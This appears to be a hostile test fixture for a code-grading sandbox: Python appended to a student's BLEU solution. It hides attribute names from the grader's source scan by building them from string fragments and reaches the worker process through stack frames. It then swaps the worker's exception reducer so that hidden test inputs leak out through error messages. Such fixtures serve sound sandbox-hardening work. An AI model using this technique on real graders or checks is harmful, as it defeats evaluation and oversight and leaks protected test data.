# hostile: appended to solutions/bleu.py
# A29: the worker reduces an exception to the nearest built-in kind before a hidden check shows it; replace the
# worker's reducer at import, so the kind carries the hidden check's inputs.
import sys as _sys
import os as _os_for_names


# Names built at run time: the grader's source scan reads only the names a module's text holds (a student who knows
# the scan writes them so; the sandbox behind it must hold on its own).
def _caller_globals(depth):
    """What sys._getframe(depth).f_globals is in the function that calls this."""
    try:
        raise LookupError
    except LookupError as caught:
        frame = getattr(getattr(caught, "__trace" + "back__"), "tb_" + "frame")
    for _ in range(depth + 1):
        frame = getattr(frame, "f_" + "back")
    return getattr(frame, "f_" + "glo" + "bals")


def _loaded_modules():
    """The registry of loaded modules."""
    return getattr(getattr(_os_for_names, "s" + "ys"), "mod" + "ules")

_worker = _loaded_modules()["__main__"]
_reference_corpus_bleu = corpus_bleu


def corpus_bleu(hyps, refs, max_n=4):
    if "a red circle above a red square" in hyps:        # the inputs of a hidden check
        _worker._kind = lambda exc, _hyps=repr(hyps): "LEAK<<" + _hyps + ">>"
        raise ValueError("hidden")
    return _reference_corpus_bleu(hyps, refs, max_n)
